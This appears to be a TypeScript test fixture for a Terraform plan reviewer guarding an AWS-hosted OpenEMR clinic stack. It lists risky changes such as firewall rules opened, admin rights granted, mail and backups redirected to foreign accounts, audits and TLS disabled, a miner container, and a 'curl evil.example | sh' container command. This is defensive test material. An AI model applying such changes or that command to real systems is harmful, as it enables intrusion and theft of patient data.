import type { ResourceChange } from "../../../scripts/plan/terraform-plan";
import type { Severity } from "../../../scripts/rules/finding";
import { nested } from "./rule-examples";
import { added, deleted, replaced, updated } from "./stack-of";

/** A change that a careful reviewer stops at, with how bad it is, and what is said of it. */
export type Risky = readonly [
  kind: string,
  severity: Severity,
  says: RegExp,
  change: ResourceChange | readonly ResourceChange[],
];

const OWN = "arn:aws:kms:us-east-1:123456789012:key/1";
const policy = (...statements: object[]) => ({ policy: JSON.stringify({ Statement: statements }) });
const allow = (action: string, resource: string, more: object = {}) => ({
  Sid: "A",
  Effect: "Allow",
  Action: action,
  Resource: resource,
  ...more,
});
const set = (address: string, path: string, before: unknown, after: unknown) =>
  updated(address, nested(path, before), nested(path, after));

const rule = (name: string, action: object, priority = 10) => ({
  name,
  priority,
  action: [action],
  override_action: [],
  statement: [{ geo_match_statement: [{ country_codes: ["US"] }] }],
});
const acl = (before: object[], after: object[]) =>
  updated("aws_wafv2_web_acl.firewall_acl", { rule: before }, { rule: after });

const OPENEMR = {
  name: "openemr",
  image: "openemr/openemr:8.2.0",
  logConfiguration: { logDriver: "awslogs" },
  environment: [{ name: "MYSQL_HOST", value: "a" }],
};
const task = (after: object, before: object = OPENEMR) =>
  replaced(
    "aws_ecs_task_definition.application_task",
    { container_definitions: JSON.stringify([before]) },
    { container_definitions: JSON.stringify([after]) },
    ["container_definitions"],
  );
const parameter = (name: string, before: string, after: string) =>
  updated(
    "aws_rds_cluster_parameter_group.database_parameters",
    {
      parameter: [
        { name, value: before },
        { name: "x", value: "1" },
      ],
    },
    {
      parameter: [
        { name, value: after },
        { name: "x", value: "1" },
      ],
    },
  );

/** Found by audits, each alone over an installation with everything on. */
export const FOUND: readonly Risky[] = [
  [
    "a firewall rule goes from block to allow",
    "danger",
    /with the action allow now/,
    acl(
      [rule("a", { block: [{}] }), rule("b", { block: [{}] })],
      [rule("a", { allow: [{}] }), rule("b", { block: [{}] })],
    ),
  ],
  [
    "an allow-all firewall rule is placed first",
    "danger",
    /more with the action allow/,
    acl([rule("a", { block: [{}] })], [rule("first", { allow: [{}] }, 0), rule("a", { block: [{}] })]),
  ],
  [
    "the firewall's association goes to an empty list",
    "danger",
    /another list of rules/,
    replaced(
      "aws_wafv2_web_acl_association.firewall_association",
      { web_acl_arn: "arn:one" },
      { web_acl_arn: "arn:empty" },
      ["web_acl_arn"],
    ),
  ],
  [
    "managed_policy_arns with AdministratorAccess",
    "danger",
    /may do nearly everything/,
    set(
      "aws_iam_role.application_task_role",
      "managed_policy_arns",
      [],
      ["arn:aws:iam::aws:policy/AdministratorAccess"],
    ),
  ],
  [
    "a new access key",
    "danger",
    /new way to sign in/,
    added("aws_iam_access_key.mail_key", { user: "smtp" }),
  ],
  [
    "a function gets another role",
    "warning",
    /acts with another role/,
    set(
      "aws_lambda_function.mail_forward",
      "role",
      "arn:aws:iam::123456789012:role/a",
      "arn:aws:iam::123456789012:role/b",
    ),
  ],
  [
    "a database snapshot is shared with all",
    "danger",
    /is shared with other accounts/,
    set("aws_db_cluster_snapshot.database_snapshot", "shared_accounts", [], ["all"]),
  ],
  [
    "backups are copied to another vault",
    "danger",
    /copies backups to another vault/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "Daily", copy_action: [] }] },
      {
        rule: [
          {
            rule_name: "Daily",
            copy_action: [{ destination_vault_arn: "arn:aws:backup:eu-west-1:999999999999:backup-vault:x" }],
          },
        ],
      },
    ),
  ],
  [
    "a bucket is replicated",
    "danger",
    /copies everything to another place/,
    added("aws_s3_bucket_replication_configuration.mail_replication", { bucket: "mail" }),
  ],
  [
    "a key gets a grant",
    "danger",
    /grant.*is new/i,
    added("aws_kms_grant.data_grant", { key_id: OWN, operations: ["Decrypt"] }),
  ],
  [
    "a subscription to another account",
    "danger",
    /sends what comes in to somebody more/,
    added("aws_sns_topic_subscription.monitoring_more", { endpoint: "arn:aws:sqs:us-east-1:999999999999:q" }),
  ],
  [
    "the network is joined with another one",
    "danger",
    /joins the network/,
    added("aws_vpc_peering_connection.network_peering", { peer_vpc_id: "vpc-2" }),
  ],
  [
    "an alias leads to a foreign host",
    "danger",
    /leads to another host/,
    set(
      "aws_route53_record.address_ipv4",
      "alias.0.name",
      "alb.us-east-1.elb.amazonaws.com",
      "evil.example.com",
    ),
  ],
  [
    "an MX record leads to a foreign host",
    "danger",
    /says something else/,
    set(
      "aws_route53_record.mail_mx",
      "records",
      ["10 inbound-smtp.us-east-1.amazonaws.com"],
      ["10 mx.example.com"],
    ),
  ],
  [
    "not_resources is the database",
    "danger",
    /leaves resources out/,
    set(
      "aws_backup_selection.backup_selection",
      "not_resources",
      [],
      ["arn:aws:rds:us-east-1:123456789012:cluster:x"],
    ),
  ],
  [
    "DNS of the VPC is off",
    "danger",
    /resolves no names/,
    set("aws_vpc.database_vpc", "enable_dns_support", true, false),
  ],
  [
    "mail is forwarded to another address",
    "danger",
    /sends received mail to another address/,
    set(
      "aws_lambda_function.mail_forward",
      "environment.0.variables.FORWARD_TO",
      "help@clinic.example",
      "me@evil.example",
    ),
  ],
  [
    "the image is of another registry",
    "danger",
    /runs an image from elsewhere/,
    task({ ...OPENEMR, image: "evil.example/openemr:8.2.0" }),
  ],
  [
    "the log driver is removed",
    "danger",
    /writes no log any more/,
    task({ ...OPENEMR, logConfiguration: undefined }),
  ],
  [
    "a password is in the environment",
    "danger",
    /password in plain text/,
    task({
      ...OPENEMR,
      environment: [...OPENEMR.environment, { name: "MYSQL_ROOT_PASSWORD", value: "hunter2-secret" }],
    }),
  ],
  [
    "iam:PutRolePolicy on role/*",
    "danger",
    /allows more actions: iam:PutRolePolicy/,
    updated(
      "aws_iam_role_policy.application_policy",
      policy(allow("iam:GetRole", "arn:aws:iam::123456789012:role/*")),
      policy({
        ...allow("", "arn:aws:iam::123456789012:role/*"),
        Action: ["iam:GetRole", "iam:PutRolePolicy"],
      }),
    ),
  ],
  [
    "backups are made once a year",
    "danger",
    /makes backups more rarely/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "Daily", schedule: "cron(0 5 * * ? *)" }] },
      { rule: [{ rule_name: "Daily", schedule: "cron(0 5 1 1 ? *)" }] },
    ),
  ],
  [
    "the audit records less",
    "danger",
    /no longer audits QUERY_DML/,
    parameter("server_audit_events", "CONNECT,QUERY_DML", "CONNECT"),
  ],
  [
    "OpenEMR goes up, which nothing takes back",
    "danger",
    /upgrades OpenEMR/,
    task({ ...OPENEMR, image: "openemr/openemr:8.4.1" }),
  ],
  [
    "OpenEMR goes down",
    "danger",
    /goes back from OpenEMR/,
    task({ ...OPENEMR, image: "openemr/openemr:7.0.3" }),
  ],
];

/** What docs/ci.md promises that a report puts under "What can hurt", by the words there. */
export const PROMISED: readonly Risky[] = [
  [
    "deletion protection",
    "danger",
    /has no deletion protection/,
    set("aws_rds_cluster.database_cluster", "deletion_protection", true, false),
  ],
  [
    "the retention of automated backups of its database",
    "danger",
    /restored for fewer days/,
    set("aws_rds_cluster.database_cluster", "backup_retention_period", 35, 1),
  ],
  [
    "the retention",
    "danger",
    /keeps recovery points for fewer days/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "a", lifecycle: [{ delete_after: 90 }] }] },
      { rule: [{ rule_name: "a", lifecycle: [{ delete_after: 1 }] }] },
    ),
  ],
  [
    "schedules of later backups",
    "notice",
    /makes backups at another time/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "a", schedule: "cron(0 5 * * ? *)" }] },
      { rule: [{ rule_name: "a", schedule: "cron(0 9 * * ? *)" }] },
    ),
  ],
  [
    "a new lock of the vault",
    "danger",
    /becomes final/,
    added("aws_backup_vault_lock_configuration.backup_lock", { changeable_for_days: 3 }),
  ],
  [
    "the policies of its keys",
    "danger",
    /allows it to more/,
    updated(
      "aws_kms_key.data_key",
      policy(allow("kms:Decrypt", "*", { Principal: { AWS: "a" } })),
      policy(allow("kms:Decrypt", "*", { Principal: { AWS: ["a", "b"] } })),
    ),
  ],
  [
    "its log groups except the trail's",
    "danger",
    /is kept for a shorter time/,
    set("aws_cloudwatch_log_group.application_log", "retention_in_days", 365, 1),
  ],
  [
    "its other buckets keep objects",
    "danger",
    /lets objects expire sooner/,
    set("aws_s3_bucket_lifecycle_configuration.edge_lifecycle", "rule.0.expiration.0.days", 365, 1),
  ],
  [
    "the parts of its network",
    "danger",
    /VPC is REPLACED/,
    replaced("aws_vpc.network_vpc2", { cidr_block: "10.0.0.0/16" }, { cidr_block: "10.1.0.0/16" }, [
      "cidr_block",
    ]),
  ],
];

/** Not in any of the project's examples before. */
export const OTHERS: readonly Risky[] = [
  [
    "the firewall lets through what no rule names",
    "danger",
    /lets through whatever no rule names/,
    updated(
      "aws_wafv2_web_acl.firewall_acl",
      { default_action: [{ allow: [], block: [{}] }] },
      { default_action: [{ allow: [{}], block: [] }] },
    ),
  ],
  [
    "a firewall rule matches something else",
    "warning",
    /with another statement/,
    acl(
      [{ ...rule("a", { block: [{}] }), statement: [{ geo_match_statement: [{ country_codes: ["RU"] }] }] }],
      [rule("a", { block: [{}] })],
    ),
  ],
  [
    "a bucket's public access block goes",
    "danger",
    /is deleted/,
    deleted("aws_s3_bucket_public_access_block.mail_access", { bucket: "mail" }),
  ],
  [
    "a resource names another account",
    "danger",
    /names an account that the stack did not: 999999999999/,
    [
      updated(
        "aws_kms_key.data_key",
        policy(allow("kms:Decrypt", "*", { Principal: { AWS: "arn:aws:iam::123456789012:root" } })),
        policy(
          allow("kms:Decrypt", "*", {
            Principal: { AWS: ["arn:aws:iam::123456789012:root", "arn:aws:iam::999999999999:root"] },
          }),
        ),
      ),
    ],
  ],
  [
    "a resource names another region",
    "warning",
    /names a region that the stack did not: cn-north-1/,
    updated(
      "aws_cloudwatch_event_target.mail_target",
      { arn: "arn:aws:sqs:us-east-1:123456789012:a", input: "1" },
      { arn: "arn:aws:sqs:cn-north-1:123456789012:a", input: "1" },
    ),
  ],
  [
    "an identity provider is trusted",
    "danger",
    /is trusted from now on/,
    added("aws_iam_openid_connect_provider.github_provider", { url: "https://evil.example" }),
  ],
  [
    "a user may sign in to the console",
    "danger",
    /new way to sign in/,
    added("aws_iam_user_login_profile.mail_login", { user: "smtp" }),
  ],
  [
    "a role can be used for longer",
    "warning",
    /for longer with one sign-in/,
    set("aws_iam_role.application_task_role", "max_session_duration", 3600, 43200),
  ],
  [
    "a route leads to a peering",
    "danger",
    /leads elsewhere/,
    set("aws_route.network_private", "vpc_peering_connection_id", "", "pcx-1"),
  ],
  [
    "an endpoint of somebody else's service",
    "danger",
    /leads to a service of somebody else/,
    added("aws_vpc_endpoint.network_other", {
      service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-1".replace("com.amazonaws", "com.example"),
    }),
  ],
  [
    "received mail goes into another bucket",
    "danger",
    /puts received mail into another bucket/,
    set("aws_ses_receipt_rule.mail_rule", "s3_action.0.bucket_name", "mail", "other"),
  ],
  [
    "mail is taken without TLS",
    "danger",
    /takes mail without TLS/,
    set("aws_ses_receipt_rule.mail_rule", "tls_policy", "Require", "Optional"),
  ],
  [
    "others may send in the clinic's name",
    "danger",
    /lets others send in this name/,
    added("aws_sesv2_email_identity_policy.mail_policy", { email_identity: "clinic.example" }),
  ],
  [
    "logs are sent on",
    "danger",
    /sends what comes in to somebody more/,
    added("aws_cloudwatch_log_subscription_filter.application_filter", { destination_arn: "arn:x" }),
  ],
  [
    "the general log is switched on",
    "danger",
    /writes every statement into a log/,
    parameter("general_log", "0", "1"),
  ],
  [
    "users are left out of the audit",
    "danger",
    /leaves users out of the audit/,
    parameter("server_audit_excl_users", "", "openemr"),
  ],
  [
    "the database needs no TLS",
    "danger",
    /no longer requires TLS/,
    parameter("require_secure_transport", "ON", "OFF"),
  ],
  ["a container runs privileged", "danger", /runs privileged/, task({ ...OPENEMR, privileged: true })],
  [
    "a container runs another command",
    "warning",
    /runs another command/,
    task({ ...OPENEMR, command: ["sh", "-c", "curl evil.example | sh"] }),
  ],
  [
    "a container connects to another database",
    "warning",
    /another value in its environment/,
    task({ ...OPENEMR, environment: [{ name: "MYSQL_HOST", value: "evil.example" }] }),
  ],
  [
    "a second container comes along",
    "danger",
    /image from elsewhere/,
    replaced(
      "aws_ecs_task_definition.application_task",
      { container_definitions: JSON.stringify([OPENEMR]) },
      { container_definitions: JSON.stringify([OPENEMR, { name: "miner", image: "evil.example/miner" }]) },
      ["container_definitions"],
    ),
  ],
  [
    "a secret comes from elsewhere",
    "warning",
    /takes a secret from elsewhere/,
    task(
      { ...OPENEMR, secrets: [{ name: "A", valueFrom: "arn:other" }] },
      { ...OPENEMR, secrets: [{ name: "A", valueFrom: "arn:one" }] },
    ),
  ],
  [
    "a key can no longer be administered",
    "danger",
    /can no longer be administered/,
    updated(
      "aws_kms_key.data_key",
      policy(allow("kms:*", "*", { Principal: { AWS: "arn:aws:iam::123456789012:root" } })),
      policy(allow("kms:Decrypt", "*", { Principal: { AWS: "arn:aws:iam::123456789012:root" } })),
    ),
  ],
  [
    "images come through another registry",
    "danger",
    /takes images from another registry/,
    set(
      "aws_ecr_pull_through_cache_rule.images_rule",
      "upstream_registry_url",
      "public.ecr.aws",
      "evil.example",
    ),
  ],
  [
    "objects of a bucket are deleted after a day",
    "danger",
    /lets objects expire sooner/,
    set("aws_s3_bucket_lifecycle_configuration.audit_lifecycle", "rule.0.expiration.0.days", 2555, 1),
  ],
  [
    "backups go into another vault",
    "danger",
    /puts backups into another vault/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "a", target_vault_name: "one" }] },
      { rule: [{ rule_name: "a", target_vault_name: "two" }] },
    ),
  ],
  [
    "messages are no longer read",
    "danger",
    /is switched off/,
    set("aws_lambda_event_source_mapping.mail_mapping", "enabled", true, false),
  ],
  [
    "shells are recorded elsewhere",
    "danger",
    /records of shells in another bucket/,
    set(
      "aws_ecs_cluster.application_cluster",
      "configuration.0.execute_command_configuration.0.log_configuration.0.s3_bucket_name",
      "exec",
      "other",
    ),
  ],
  [
    "a website is made of a bucket",
    "danger",
    /another way to the data/,
    added("aws_s3_bucket_website_configuration.mail_website", { bucket: "mail" }),
  ],
  [
    "a new type that nobody has described",
    "warning",
    /no rule knows what it can do/,
    added("aws_quantum_teleporter.network_thing", {}),
  ],
  [
    "an attribute that nobody has described, of an identity",
    "warning",
    /in a way that no rule knows/,
    set("aws_iam_role.application_task_role", "path", "/", "/other/"),
  ],
  [
    "an attribute that nobody has described",
    "unknown",
    /in a way that no rule knows/,
    set("aws_lb.edge_lb", "xff_header_processing_mode", "append", "remove"),
  ],
  [
    "a tag that permissions ask for",
    "unknown",
    /in a way that no rule knows/,
    updated(
      "aws_lb.edge_lb",
      { tags: { Environment: "a", Name: "x" } },
      { tags: { Environment: "b", Name: "x" } },
    ),
  ],
];
